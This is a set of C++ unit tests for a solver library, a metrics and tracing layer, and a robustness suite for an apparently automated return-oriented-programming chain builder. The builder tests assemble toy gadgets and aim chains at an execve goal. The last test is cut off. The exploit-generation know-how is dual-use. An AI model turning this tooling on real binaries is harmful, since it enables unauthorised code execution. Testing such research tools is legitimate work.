  EXPECT_EQ(ctx.add(c(8), ctx.add(x, c(0x10))), ctx.add(x, c(0x18)));
  // Repeated +8 chains stay flat (the rsp-advance pattern).
  ExprRef rsp = x;
  for (int i = 0; i < 16; ++i) rsp = ctx.add(c(8), rsp);
  EXPECT_EQ(rsp, ctx.add(x, c(128)));
  // Inner constants float outward across non-constant additions.
  EXPECT_EQ(ctx.add(ctx.add(x, c(8)), y), ctx.add(ctx.add(x, y), c(8)));
  EXPECT_EQ(ctx.add(x, ctx.add(y, c(8))), ctx.add(ctx.add(x, y), c(8)));
  // Commutative interning never leaves a constant on the left.
  const auto& n = ctx.node(ctx.add(x, c(5)));
  EXPECT_TRUE(ctx.is_const(n.b));
  const auto& m = ctx.node(ctx.mul(x, c(5)));
  EXPECT_TRUE(ctx.is_const(m.b));
}

TEST_F(ExprTest, SubstituteMapForm) {
  ExprRef x = ctx.var("x", 64);
  ExprRef y = ctx.var("y", 64);
  ExprRef e = ctx.add(ctx.mul(x, y), ctx.bxor(x, y));
  std::unordered_map<ExprRef, ExprRef> map{{x, c(6)}, {y, c(7)}};
  EXPECT_EQ(ctx.substitute(e, map), c(42 + (6 ^ 7)));
}

TEST_F(ExprTest, DagSizeCountsSharedNodesOnce) {
  ExprRef x = ctx.var("x", 64);
  ExprRef shared = ctx.add(x, c(1));
  ExprRef e = ctx.mul(shared, shared);
  // Nodes reachable: mul, add, x, const — x/const are leaves excluded from
  // cost but counted as visited; sharing must not double-count.
  EXPECT_LE(ctx.dag_size(e), 4u);
  EXPECT_GE(ctx.dag_size(e), 2u);
}

TEST_F(ExprTest, ConstantChainsAccumulate) {
  ExprRef x = ctx.var("x", 64);
  ExprRef e = ctx.add(ctx.add(x, c(8)), c(8));
  EXPECT_EQ(e, ctx.add(x, c(16)));
  // (x + 8) == 24  simplifies to  x == 16.
  EXPECT_EQ(ctx.eq(ctx.add(x, c(8)), c(24)), ctx.eq(x, c(16)));
}

TEST_F(ExprTest, IteSimplification) {
  ExprRef x = ctx.var("x", 64);
  ExprRef y = ctx.var("y", 64);
  ExprRef p = ctx.var("p", 1);
  EXPECT_EQ(ctx.ite(ctx.t(), x, y), x);
  EXPECT_EQ(ctx.ite(ctx.f(), x, y), y);
  EXPECT_EQ(ctx.ite(p, x, x), x);
  EXPECT_EQ(ctx.ite(p, ctx.t(), ctx.f()), p);
}

TEST_F(ExprTest, SubstituteRebuildsAndSimplifies) {
  ExprRef x = ctx.var("x", 64);
  ExprRef y = ctx.var("y", 64);
  ExprRef e = ctx.add(ctx.mul(x, c(2)), y);
  ExprRef r = ctx.substitute(e, x, c(10));
  r = ctx.substitute(r, y, c(22));
  EXPECT_EQ(r, c(42));
}

TEST_F(ExprTest, Variables) {
  ExprRef x = ctx.var("x", 64);
  ExprRef y = ctx.var("y", 64);
  ExprRef e = ctx.add(ctx.mul(x, y), ctx.bxor(x, c(3)));
  auto vars = ctx.variables(e);
  EXPECT_EQ(vars.size(), 2u);
}

TEST_F(ExprTest, EvalMatchesSemantics) {
  ExprRef x = ctx.var("x", 64);
  ExprRef y = ctx.var("y", 64);
  std::unordered_map<ExprRef, u64> env{{x, 7}, {y, 3}};
  EXPECT_EQ(ctx.eval(ctx.add(x, y), env), 10u);
  EXPECT_EQ(ctx.eval(ctx.shl(x, y), env), 56u);
  EXPECT_EQ(ctx.eval(ctx.slt(ctx.neg(x), y), env), 1u);
}

// ---------------------------------------------------------------------------
// SAT core
// ---------------------------------------------------------------------------

TEST(SatCore, TrivialSatAndUnsat) {
  Sat s;
  const u32 a = s.new_var(), b = s.new_var();
  s.add_clause({Lit::pos(a), Lit::pos(b)});
  s.add_clause({Lit::neg(a)});
  EXPECT_EQ(s.solve(), SatResult::Sat);
  EXPECT_FALSE(s.model_value(a));
  EXPECT_TRUE(s.model_value(b));

  Sat u;
  const u32 x = u.new_var();
  u.add_clause({Lit::pos(x)});
  EXPECT_FALSE(u.add_clause({Lit::neg(x)}));
  EXPECT_EQ(u.solve(), SatResult::Unsat);
}

TEST(SatCore, PigeonholeUnsat) {
  // 4 pigeons, 3 holes: classic small UNSAT requiring real search.
  Sat s;
  const int P = 4, H = 3;
  u32 v[4][3];
  for (int p = 0; p < P; ++p)
    for (int h = 0; h < H; ++h) v[p][h] = s.new_var();
  for (int p = 0; p < P; ++p) {
    std::vector<Lit> c;
    for (int h = 0; h < H; ++h) c.push_back(Lit::pos(v[p][h]));
    s.add_clause(c);
  }
  for (int h = 0; h < H; ++h)
    for (int p1 = 0; p1 < P; ++p1)
      for (int p2 = p1 + 1; p2 < P; ++p2)
        s.add_clause({Lit::neg(v[p1][h]), Lit::neg(v[p2][h])});
  EXPECT_EQ(s.solve(), SatResult::Unsat);
}

/// Random 3-SAT cross-checked against brute force over <=14 variables.
TEST(SatCore, RandomAgainstBruteForce) {
  Rng rng(2024);
  for (int iter = 0; iter < 200; ++iter) {
    const int nvars = 3 + static_cast<int>(rng.below(12));
    const int nclauses = 1 + static_cast<int>(rng.below(60));
    std::vector<std::vector<int>> clauses(nclauses);
    for (auto& cl : clauses) {
      const int len = 1 + static_cast<int>(rng.below(3));
      for (int k = 0; k < len; ++k) {
        const int var = static_cast<int>(rng.below(nvars));
        cl.push_back(rng.chance(0.5) ? var + 1 : -(var + 1));
      }
    }
    // Brute force.
    bool brute_sat = false;
    for (u32 m = 0; m < (1u << nvars) && !brute_sat; ++m) {
      bool all = true;
      for (const auto& cl : clauses) {
        bool any = false;
        for (const int l : cl) {
          const int var = std::abs(l) - 1;
          const bool val = (m >> var) & 1;
          if ((l > 0) == val) {
            any = true;
            break;
          }
        }
        if (!any) {
          all = false;
          break;
        }
      }
      brute_sat = all;
    }
    // CDCL.
    Sat s;
    for (int v = 0; v < nvars; ++v) s.new_var();
    bool consistent = true;
    for (const auto& cl : clauses) {
      std::vector<Lit> lits;
      for (const int l : cl) {
        const u32 var = static_cast<u32>(std::abs(l) - 1);
        lits.push_back(l > 0 ? Lit::pos(var) : Lit::neg(var));
      }
      consistent = s.add_clause(std::move(lits)) && consistent;
    }
    const bool cdcl_sat = consistent && s.solve() == SatResult::Sat;
    EXPECT_EQ(cdcl_sat, brute_sat) << "iter " << iter;
    // If SAT, the model must actually satisfy every clause.
    if (cdcl_sat) {
      for (const auto& cl : clauses) {
        bool any = false;
        for (const int l : cl) {
          const u32 var = static_cast<u32>(std::abs(l) - 1);
          if ((l > 0) == s.model_value(var)) any = true;
        }
        EXPECT_TRUE(any);
      }
    }
  }
}

// ---------------------------------------------------------------------------
// Bit-blasting solver
// ---------------------------------------------------------------------------

class SolverTest : public ::testing::Test {
 protected:
  Context ctx;
  Solver solver{ctx};
  ExprRef c(u64 v, u8 w = 64) { return ctx.constant(v, w); }
};

TEST_F(SolverTest, SimpleEquationModel) {
  ExprRef x = ctx.var("x", 64);
  // x + 5 == 12
  auto m = solver.check_sat({ctx.eq(ctx.add(x, c(5)), c(12))});
  ASSERT_TRUE(m.has_value());
  EXPECT_EQ((*m)[x], 7u);
}

TEST_F(SolverTest, UnsatContradiction) {
  ExprRef x = ctx.var("x", 64);
  EXPECT_FALSE(
      solver.check_sat({ctx.eq(x, c(1)), ctx.eq(x, c(2))}).has_value());
}

TEST_F(SolverTest, XorDecomposition) {
  // The paper's instruction-substitution identity:
  // a ^ b == (~a & b) | (a & ~b), proven valid over all 64-bit values.
  ExprRef a = ctx.var("a", 64);
  ExprRef b = ctx.var("b", 64);
  ExprRef lhs = ctx.bxor(a, b);
  ExprRef rhs = ctx.bor(ctx.band(ctx.bnot(a), b), ctx.band(a, ctx.bnot(b)));
  EXPECT_TRUE(solver.prove_equal(lhs, rhs));
}

TEST_F(SolverTest, AddDecomposition) {
  // a + b == (a ^ b) + 2*(a & b)
  ExprRef a = ctx.var("a", 64);
  ExprRef b = ctx.var("b", 64);
  ExprRef rhs =
      ctx.add(ctx.bxor(a, b), ctx.mul(c(2), ctx.band(a, b)));
  EXPECT_TRUE(solver.prove_equal(ctx.add(a, b), rhs));
}

TEST_F(SolverTest, NotEqualCatchesDifference) {
  ExprRef a = ctx.var("a", 64);
  EXPECT_FALSE(solver.prove_equal(ctx.add(a, c(1)), ctx.add(a, c(2))));
  EXPECT_FALSE(solver.prove_equal(ctx.mul(a, c(2)), ctx.shl(a, c(2))));
  EXPECT_TRUE(solver.prove_equal(ctx.mul(a, c(2)), ctx.shl(a, c(1))));
}

TEST_F(SolverTest, OpaquePredicateAlwaysTrue) {
  // x*x + x is even: the bogus-control-flow opaque predicate.
  ExprRef x = ctx.var("x", 64);
  ExprRef e = ctx.band(ctx.add(ctx.mul(x, x), x), c(1));
  EXPECT_TRUE(solver.prove_equal(e, c(0)));
}

TEST_F(SolverTest, Implication) {
  ExprRef x = ctx.var("x", 64);
  ExprRef stronger = ctx.eq(x, c(5));
  ExprRef weaker = ctx.ult(x, c(10));
  EXPECT_TRUE(solver.prove_implies(stronger, weaker));
  EXPECT_FALSE(solver.prove_implies(weaker, stronger));
  EXPECT_TRUE(solver.prove_implies(ctx.f(), stronger));
  EXPECT_TRUE(solver.prove_implies(stronger, ctx.t()));
}

TEST_F(SolverTest, SignedComparisons) {
  ExprRef x = ctx.var("x", 64);
  // x < 0 signed AND x > 10 unsigned is satisfiable (negative values are
  // huge unsigned).
  auto m = solver.check_sat({ctx.slt(x, c(0)), ctx.ult(c(10), x)});
  ASSERT_TRUE(m.has_value());
  EXPECT_TRUE(static_cast<i64>((*m)[x]) < 0);
}

TEST_F(SolverTest, ShiftSemantics) {
  ExprRef x = ctx.var("x", 8);
  // (x << 1) == 0x54  ->  x == 0x2a or 0xaa (top bit shifted out).
  auto m = solver.check_sat({ctx.eq(ctx.shl(x, c(1, 8)), c(0x54, 8))});
  ASSERT_TRUE(m.has_value());
  const u64 v = (*m)[x];
  EXPECT_EQ((v << 1) & 0xff, 0x54u);
}

TEST_F(SolverTest, IteBlasting) {
  ExprRef x = ctx.var("x", 64);
  ExprRef cond = ctx.ult(x, c(100));
  ExprRef e = ctx.ite(cond, c(1), c(2));
  auto m = solver.check_sat({ctx.eq(e, c(2))});
  ASSERT_TRUE(m.has_value());
  EXPECT_GE((*m)[x], 100u);
}

TEST_F(SolverTest, MemoCacheHits) {
  ExprRef x = ctx.var("x", 64);
  ExprRef q = ctx.eq(x, c(3));
  EXPECT_TRUE(solver.is_sat({q}));
  const u64 before = solver.cache_hits();
  EXPECT_TRUE(solver.is_sat({q}));
  EXPECT_GT(solver.cache_hits(), before);
}

/// Property: for random expression trees, solver-found models actually
/// evaluate to satisfy the constraint (model soundness), and prove_equal
/// agrees with randomized evaluation (no false equivalences on sampled
/// points).
TEST_F(SolverTest, RandomExpressionModelSoundness) {
  Rng rng(77);
  ExprRef x = ctx.var("x", 16);
  ExprRef y = ctx.var("y", 16);
  for (int iter = 0; iter < 60; ++iter) {
    // Build a random small expression over x, y.
    std::vector<ExprRef> pool{x, y, c(rng.below(1 << 16), 16)};
    for (int d = 0; d < 6; ++d) {
      ExprRef a = pool[rng.below(pool.size())];
      ExprRef b = pool[rng.below(pool.size())];
      switch (rng.below(6)) {
        case 0: pool.push_back(ctx.add(a, b)); break;
        case 1: pool.push_back(ctx.bxor(a, b)); break;
        case 2: pool.push_back(ctx.band(a, b)); break;
        case 3: pool.push_back(ctx.bor(a, b)); break;
        case 4: pool.push_back(ctx.bnot(a)); break;
        case 5: pool.push_back(ctx.mul(a, b)); break;
      }
    }
    ExprRef e = pool.back();
    const u64 target = rng.below(1 << 16);
    auto m = solver.check_sat({ctx.eq(e, c(target, 16))});
    if (m.has_value()) {
      std::unordered_map<ExprRef, u64> env(m->begin(), m->end());
      EXPECT_EQ(ctx.eval(e, env), target) << ctx.to_string(e);
    } else {
      // Sample a few points to gain confidence it really is UNSAT.
      for (int s = 0; s < 16; ++s) {
        std::unordered_map<ExprRef, u64> env{{x, rng.below(1 << 16)},
                                             {y, rng.below(1 << 16)}};
        EXPECT_NE(ctx.eval(e, env), target) << ctx.to_string(e);
      }
    }
  }
}

/// Property: smart-constructor simplification is semantics-preserving.
/// Compare ctx.eval of randomly built exprs against a shadow interpreter
/// that applies the operations directly.
TEST_F(SolverTest, SimplifierPreservesSemantics) {
  Rng rng(99);
  for (int iter = 0; iter < 300; ++iter) {
    ExprRef x = ctx.var("x", 64);
    ExprRef y = ctx.var("y", 64);
    const u64 xv = rng.next(), yv = rng.next();
    std::unordered_map<ExprRef, u64> env{{x, xv}, {y, yv}};

    struct Item {
      ExprRef e;
      u64 v;
    };
    std::vector<Item> pool{{x, xv}, {y, yv}};
    const u64 k = rng.next();
    pool.push_back({c(k), k});
    for (int d = 0; d < 8; ++d) {
      const Item a = pool[rng.below(pool.size())];
      const Item b = pool[rng.below(pool.size())];
      Item out{0, 0};
      switch (rng.below(9)) {
        case 0: out = {ctx.add(a.e, b.e), a.v + b.v}; break;
        case 1: out = {ctx.sub(a.e, b.e), a.v - b.v}; break;
        case 2: out = {ctx.mul(a.e, b.e), a.v * b.v}; break;
        case 3: out = {ctx.band(a.e, b.e), a.v & b.v}; break;
        case 4: out = {ctx.bor(a.e, b.e), a.v | b.v}; break;
        case 5: out = {ctx.bxor(a.e, b.e), a.v ^ b.v}; break;
        case 6: out = {ctx.bnot(a.e), ~a.v}; break;
        case 7: out = {ctx.shl(a.e, c(rng.below(64))), 0}; break;
        case 8: out = {ctx.lshr(a.e, c(rng.below(64))), 0}; break;
      }
      // Recompute shifts from the expression itself (count was fresh).
      out.v = ctx.eval(out.e, env);
      pool.push_back(out);
      EXPECT_EQ(ctx.eval(out.e, env), out.v);
    }
  }
}

}  // namespace
}  // namespace gp::solver
