// Unit tests for the observability layer: the process-wide metrics
// registry (support/metrics) and the scoped-span tracer with its Chrome
// trace_event exporter (support/trace).
#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "support/metrics.hpp"
#include "support/str.hpp"
#include "support/trace.hpp"

namespace gp {
namespace {

// Every test runs with both subsystems explicitly enabled and leaves the
// registry/rings clean: the process-wide singletons are shared across the
// whole binary.
class Observability : public ::testing::Test {
 protected:
  void SetUp() override {
    metrics::set_enabled(true);
    metrics::registry().reset();
    trace::set_enabled(true);
    trace::reset();
  }
  void TearDown() override {
    trace::set_enabled(false);
    trace::reset();
    metrics::registry().reset();
  }
};

TEST_F(Observability, CounterAddsAndResets) {
  metrics::Counter& c = metrics::registry().counter("t.counter");
  EXPECT_EQ(c.value(), 0u);
  c.add();
  c.add(41);
  EXPECT_EQ(c.value(), 42u);
  c.reset();
  EXPECT_EQ(c.value(), 0u);
}

TEST_F(Observability, CounterIsDisabledCheap) {
  metrics::Counter& c = metrics::registry().counter("t.disabled");
  metrics::set_enabled(false);
  c.add(7);
  EXPECT_EQ(c.value(), 0u);  // disabled adds are dropped, not deferred
  metrics::set_enabled(true);
  c.add(7);
  EXPECT_EQ(c.value(), 7u);
}

TEST_F(Observability, RegistryReturnsStableReferences) {
  metrics::Counter& a = metrics::registry().counter("t.same");
  metrics::Counter& b = metrics::registry().counter("t.same");
  EXPECT_EQ(&a, &b);
  a.add();
  EXPECT_EQ(b.value(), 1u);
}

TEST_F(Observability, GaugeSetAddValue) {
  metrics::Gauge& g = metrics::registry().gauge("t.gauge");
  g.set(10);
  g.add(-3);
  EXPECT_EQ(g.value(), 7);
}

TEST_F(Observability, HistogramBucketsByBitWidthAndTracksMoments) {
  metrics::Histogram& h = metrics::registry().histogram("t.hist");
  h.observe(0);
  h.observe(1);
  h.observe(5);   // bit_width 3
  h.observe(5);
  h.observe(300);  // bit_width 9
  EXPECT_EQ(h.count(), 5u);
  EXPECT_EQ(h.sum(), 311u);
  EXPECT_EQ(h.max(), 300u);
  EXPECT_DOUBLE_EQ(h.mean(), 311.0 / 5.0);
  EXPECT_EQ(h.bucket(0), 1u);
  EXPECT_EQ(h.bucket(1), 1u);
  EXPECT_EQ(h.bucket(3), 2u);
  EXPECT_EQ(h.bucket(9), 1u);
}

TEST_F(Observability, SnapshotAndJsonCoverAllInstrumentKinds) {
  metrics::registry().counter("t.c").add(3);
  metrics::registry().gauge("t.g").set(-2);
  metrics::registry().histogram("t.h").observe(16);

  const metrics::Snapshot s = metrics::registry().snapshot();
  EXPECT_EQ(s.counters.at("t.c"), 3u);
  EXPECT_EQ(s.gauges.at("t.g"), -2);
  EXPECT_EQ(s.histograms.at("t.h").count, 1u);
  EXPECT_EQ(s.histograms.at("t.h").max, 16u);

  const std::string j = metrics::registry().to_json();
  EXPECT_NE(j.find("\"t.c\": 3"), std::string::npos) << j;
  EXPECT_NE(j.find("\"t.g\": -2"), std::string::npos) << j;
  EXPECT_NE(j.find("\"count\": 1"), std::string::npos) << j;
}

TEST_F(Observability, MetricNamesAreJsonEscapedInOutput) {
  metrics::registry().counter("weird\"name\\with\nstuff").add();
  const std::string j = metrics::registry().to_json();
  EXPECT_NE(j.find("weird\\\"name\\\\with\\nstuff"), std::string::npos) << j;
  EXPECT_EQ(j.find("with\nstuff"), std::string::npos) << j;
}

TEST_F(Observability, SpanRecordsNameCatSessionAndDuration) {
  {
    trace::Span span("mystage", "stage", 42);
  }
  const auto events = trace::snapshot();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_STREQ(events[0].name, "mystage");
  EXPECT_STREQ(events[0].cat, "stage");
  EXPECT_EQ(events[0].session, 42u);
  EXPECT_GT(events[0].tid, 0u);
}

TEST_F(Observability, DisabledSpanRecordsNothing) {
  trace::set_enabled(false);
  {
    trace::Span span("ghost");
  }
  trace::set_enabled(true);
  EXPECT_TRUE(trace::snapshot().empty());
}

TEST_F(Observability, LongNamesTruncateNotOverflow) {
  const std::string big(200, 'x');
  {
    trace::Span span(big, "stage", 0);
  }
  const auto events = trace::snapshot();
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(std::string(events[0].name).size(),
            sizeof(trace::Event::name) - 1);
}

TEST_F(Observability, RingWrapKeepsNewestAndCountsDropped) {
  trace::set_ring_capacity(64);
  // A fresh thread gets a fresh ring at the new capacity (the calling
  // thread's ring was created at the default size by an earlier test).
  std::thread t([] {
    for (int i = 0; i < 100; ++i) {
      trace::Event e;
      std::snprintf(e.name, sizeof e.name, "ev%03d", i);
      e.ts_us = static_cast<u64>(1000 + i);
      trace::record(e);
    }
  });
  t.join();
  const auto events = trace::snapshot();
  ASSERT_EQ(events.size(), 64u);
  EXPECT_GE(trace::dropped(), 36u);
  EXPECT_EQ(trace::recorded(), 100u);
  // Oldest surviving event is #36; the newest is #99.
  EXPECT_STREQ(events.front().name, "ev036");
  EXPECT_STREQ(events.back().name, "ev099");
}

TEST_F(Observability, ExportChromeJsonIsWellFormed) {
  {
    trace::Span a("alpha", "stage", 1);
    trace::Span b("beta\"quoted", "io", 2);
  }
  const std::string path = ::testing::TempDir() + "gp_trace_test.json";
  ASSERT_TRUE(trace::export_chrome_json(path).ok());

  std::ifstream in(path);
  std::stringstream ss;
  ss << in.rdbuf();
  const std::string j = ss.str();
  EXPECT_NE(j.find("\"traceEvents\""), std::string::npos);
  EXPECT_NE(j.find("\"ph\": \"X\""), std::string::npos);
  EXPECT_NE(j.find("\"alpha\""), std::string::npos);
  EXPECT_NE(j.find("beta\\\"quoted"), std::string::npos) << j;
  // Timestamps are rebased to the earliest span.
  EXPECT_NE(j.find("\"ts\": 0"), std::string::npos) << j;
  std::remove(path.c_str());
}

TEST_F(Observability, SnapshotDoesNotClearResetDoes) {
  {
    trace::Span span("keepme");
  }
  EXPECT_EQ(trace::snapshot().size(), 1u);
  EXPECT_EQ(trace::snapshot().size(), 1u);
  trace::reset();
  EXPECT_TRUE(trace::snapshot().empty());
  EXPECT_EQ(trace::recorded(), 0u);
}

TEST_F(Observability, SnapshotRestoresEnabledState) {
  (void)trace::snapshot();
  EXPECT_TRUE(trace::enabled());
  trace::set_enabled(false);
  (void)trace::snapshot();
  EXPECT_FALSE(trace::enabled());
}

}  // namespace
}  // namespace gp
