// Robustness suite: UNKNOWN-soundness of every SatResult consumer, graceful
// degradation under the shared governor, decoder/lifter fuzzing, and the
// pipeline-under-fault runs (GP_FAULT injection) — the paper pipeline must
// degrade to smaller-but-valid results, never crash, hang, or emit a chain
// that fails emulator validation.
#include <gtest/gtest.h>

#include <chrono>
#include <span>
#include <vector>

#include "codegen/codegen.hpp"
#include "core/core.hpp"
#include "corpus/corpus.hpp"
#include "lift/lift.hpp"
#include "minic/minic.hpp"
#include "support/fault.hpp"
#include "support/rng.hpp"
#include "x86/decoder.hpp"
#include "x86/encoder.hpp"

namespace gp {
namespace {

using gadget::EndKind;
using gadget::ExtractOptions;
using gadget::Extractor;
using gadget::Library;
using gadget::Record;
using payload::Goal;
using x86::Assembler;
using x86::Reg;

image::Image make_image(Assembler& a) {
  return image::Image(a.finish(), {}, image::kCodeBase);
}

Assembler classic_rop() {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.syscall();
  return a;
}

// ---------------------------------------------------------------------------
// UNKNOWN soundness: an inconclusive solver answer must never be treated as
// a proof anywhere downstream.
// ---------------------------------------------------------------------------

TEST(UnknownSoundness, ExhaustedBudgetNeverProves) {
  solver::Context ctx;
  const auto x = ctx.var("x", 64);
  const auto lt5 = ctx.ult(x, ctx.constant(5, 64));
  const auto lt10 = ctx.ult(x, ctx.constant(10, 64));

  {
    solver::Solver s(ctx);
    ASSERT_TRUE(s.prove_implies(lt5, lt10));  // genuinely valid
    ASSERT_FALSE(s.prove_implies(lt10, lt5));
  }

  // A spent solver-check budget makes every query UNKNOWN — which must
  // surface as "not proven", not as a fake proof (the historical bug:
  // prove_implies returned !is_sat, so UNKNOWN proved anything).
  GovernorOptions gopts;
  gopts.max_solver_checks = 1;
  Governor gov(gopts);
  ASSERT_TRUE(gov.solver_checks().try_consume());

  solver::Solver s(ctx, /*conflict_budget=*/2'000'000, &gov);
  EXPECT_FALSE(s.prove_implies(lt5, lt10));
  EXPECT_TRUE(s.last_unknown());
  EXPECT_EQ(s.unknowns(), 1u);
  EXPECT_EQ(s.check({lt5}), solver::SatResult::Unknown);

  // UNKNOWN is never memoized: the identical query answers correctly once
  // the governor is lifted (the old code cached UNKNOWN as UNSAT).
  s.set_governor(nullptr);
  EXPECT_TRUE(s.prove_implies(lt5, lt10));
  EXPECT_FALSE(s.last_unknown());
  EXPECT_EQ(s.check({lt5}), solver::SatResult::Sat);
}

TEST(UnknownSoundness, CancelledGovernorIsInconclusive) {
  solver::Context ctx;
  const auto x = ctx.var("x", 64);
  const auto lt5 = ctx.ult(x, ctx.constant(5, 64));
  const auto lt10 = ctx.ult(x, ctx.constant(10, 64));

  Governor gov;
  gov.cancel();
  solver::Solver s(ctx, 2'000'000, &gov);
  EXPECT_FALSE(s.prove_implies(lt5, lt10));
  EXPECT_TRUE(s.last_unknown());
  // Constant-only queries stay conclusive even when governed out.
  EXPECT_TRUE(s.prove_valid(ctx.t()));
  EXPECT_FALSE(s.is_sat({ctx.f()}));
}

TEST(UnknownSoundness, InjectedSolverFaultIsInconclusive) {
  solver::Context ctx;
  const auto x = ctx.var("x", 64);
  const auto lt5 = ctx.ult(x, ctx.constant(5, 64));
  const auto lt10 = ctx.ult(x, ctx.constant(10, 64));

  fault::ScopedSpec scoped("solver=1");
  solver::Solver s(ctx);
  EXPECT_EQ(s.check({lt5}), solver::SatResult::Unknown);
  EXPECT_FALSE(s.prove_implies(lt5, lt10));  // valid, but unknowable here
  EXPECT_FALSE(s.prove_implies(lt10, lt5));  // invalid: also "not proven"
  EXPECT_GE(s.unknowns(), 3u);
}

TEST(UnknownSoundness, MinimizeKeepsBothWhenInconclusive) {
  // Two copies of `pop rax; ret` whose preconditions need the solver:
  // x < 10 (loose) subsumes x < 5 (tight) only via a real UNSAT proof.
  solver::Context ctx;
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  auto img = make_image(a);
  Extractor ex(ctx, img);
  auto pool = ex.extract({});
  const Record* base = nullptr;
  for (const Record& r : pool)
    if (r.addr == image::kCodeBase && r.end == EndKind::Ret) base = &r;
  ASSERT_NE(base, nullptr);

  const auto rdx0 = ctx.var(sym::initial_reg_var(Reg::RDX), 64);
  Record loose = *base;
  loose.precond = {ctx.ult(rdx0, ctx.constant(10, 64))};
  Record tight = *base;
  tight.addr += 1;  // sort order: the loose gadget becomes the representative
  tight.precond = {ctx.ult(rdx0, ctx.constant(5, 64))};
  const std::vector<Record> pair = {loose, tight};

  // Working solver: the implication is proven and the tight copy removed.
  subsume::Stats full;
  auto kept = subsume::minimize(ctx, pair, &full, 20'000, /*threads=*/1);
  EXPECT_EQ(kept.size(), 1u);
  EXPECT_EQ(kept[0].addr, loose.addr);
  EXPECT_EQ(full.solver_unknown, 0u);

  // Every query UNKNOWN: inconclusive means "not subsumed" — both kept.
  fault::ScopedSpec scoped("solver=1");
  subsume::Stats st;
  kept = subsume::minimize(ctx, pair, &st, 20'000, /*threads=*/1);
  EXPECT_EQ(kept.size(), 2u);
  EXPECT_GT(st.solver_unknown, 0u);
}

TEST(UnknownSoundness, ConcretizeTreatsUnknownAsFailureNotUnsat) {
  Assembler a = classic_rop();
  solver::Context ctx;
  auto img = make_image(a);
  Extractor ex(ctx, img);
  Library lib(subsume::minimize(ctx, ex.extract({})));
  std::vector<u32> seq;
  for (const u64 addr : {0x400000, 0x400002, 0x400004, 0x400006, 0x400008})
    for (u32 i = 0; i < lib.size(); ++i)
      if (lib[i].addr == addr &&
          (lib[i].end == EndKind::Ret || lib[i].end == EndKind::Syscall))
        seq.push_back(i);
  ASSERT_EQ(seq.size(), 5u);

  // Sanity: the chain concretizes with a working solver.
  ASSERT_TRUE(
      payload::concretize(ctx, lib, img, seq, Goal::execve()).has_value());

  {
    fault::ScopedSpec scoped("solver=1");
    payload::ConcretizeStats cs;
    payload::ConcretizeOptions opts;
    opts.stats = &cs;
    auto chain =
        payload::concretize(ctx, lib, img, seq, Goal::execve(), opts);
    EXPECT_FALSE(chain.has_value());
    EXPECT_EQ(cs.solver_unknown, 1u);
    EXPECT_EQ(cs.unsat, 0u);  // UNKNOWN must not masquerade as UNSAT
  }

  // Same through a spent governor budget.
  GovernorOptions gopts;
  gopts.max_solver_checks = 1;
  Governor gov(gopts);
  ASSERT_TRUE(gov.solver_checks().try_consume());
  payload::ConcretizeStats cs;
  payload::ConcretizeOptions opts;
  opts.stats = &cs;
  opts.governor = &gov;
  EXPECT_FALSE(
      payload::concretize(ctx, lib, img, seq, Goal::execve(), opts)
          .has_value());
  EXPECT_EQ(cs.solver_unknown, 1u);
}

TEST(UnknownSoundness, ConcretizeSymStepBudgetCutsCleanly) {
  Assembler a = classic_rop();
  solver::Context ctx;
  auto img = make_image(a);
  Extractor ex(ctx, img);
  Library lib(subsume::minimize(ctx, ex.extract({})));
  std::vector<u32> seq;
  for (u32 i = 0; i < lib.size(); ++i)
    if (lib[i].addr == 0x400008) seq.push_back(i);
  for (u32 i = 0; i < lib.size(); ++i)
    if (lib[i].addr == 0x400000 && lib[i].end == EndKind::Ret)
      seq.insert(seq.begin(), i);
  ASSERT_EQ(seq.size(), 2u);

  GovernorOptions gopts;
  gopts.max_sym_steps = 1;  // the replay needs several steps
  Governor gov(gopts);
  payload::ConcretizeStats cs;
  payload::ConcretizeOptions opts;
  opts.stats = &cs;
  opts.governor = &gov;
  EXPECT_FALSE(payload::concretize(ctx, lib, img, seq, Goal::execve(), opts)
                   .has_value());
  EXPECT_EQ(cs.resource_cut, 1u);
}

// ---------------------------------------------------------------------------
// Planner deadline: enforced at every queue pop (satellite of the governor
// work — a single expansion can hide a slow concretize call).
// ---------------------------------------------------------------------------

TEST(PlannerDeadline, ZeroBudgetStopsAtTheFirstPop) {
  Assembler a = classic_rop();
  solver::Context ctx;
  auto img = make_image(a);
  Extractor ex(ctx, img);
  Library lib(subsume::minimize(ctx, ex.extract({})));

  planner::Planner p(ctx, lib, img);
  planner::Options opts;
  opts.time_budget_seconds = 0.0;
  auto chains = p.plan(Goal::execve(), opts);
  EXPECT_TRUE(chains.empty());
  EXPECT_EQ(p.stats().expansions, 0u);
  EXPECT_GE(p.stats().deadline_cuts, 1u);
  EXPECT_EQ(p.stats().status.code(), StatusCode::DeadlineExceeded);
}

TEST(PlannerDeadline, CancelledGovernorStopsTheSearch) {
  Assembler a = classic_rop();
  solver::Context ctx;
  auto img = make_image(a);
  Extractor ex(ctx, img);
  Library lib(subsume::minimize(ctx, ex.extract({})));

  Governor gov;
  gov.cancel();
  planner::Planner p(ctx, lib, img);
  planner::Options opts;
  opts.governor = &gov;
  auto chains = p.plan(Goal::execve(), opts);
  EXPECT_TRUE(chains.empty());
  EXPECT_EQ(p.stats().expansions, 0u);
  EXPECT_EQ(p.stats().status.code(), StatusCode::Cancelled);
}

// ---------------------------------------------------------------------------
// Governed extraction: budget exhaustion degrades to a partial pool whose
// accounting reconciles exactly.
// ---------------------------------------------------------------------------

TEST(GovernorDegradation, SymStepBudgetYieldsReconciledPartialPool) {
  Assembler a = classic_rop();
  solver::Context ctx;
  auto img = make_image(a);
  const u64 code_size = img.code().size();

  GovernorOptions gopts;
  gopts.max_sym_steps = 3;
  Governor gov(gopts);
  Extractor ex(ctx, img);
  ExtractOptions opts;
  opts.governor = &gov;
  auto pool = ex.extract(opts);

  const auto& st = ex.stats();
  EXPECT_EQ(st.offsets_scanned + st.offsets_skipped, code_size);
  EXPECT_GT(st.offsets_skipped, 0u);
  EXPECT_EQ(st.status.code(), StatusCode::BudgetExhausted);
  // A partial pool is usable, just smaller than the ungoverned one.
  solver::Context full_ctx;
  Extractor full_ex(full_ctx, img);
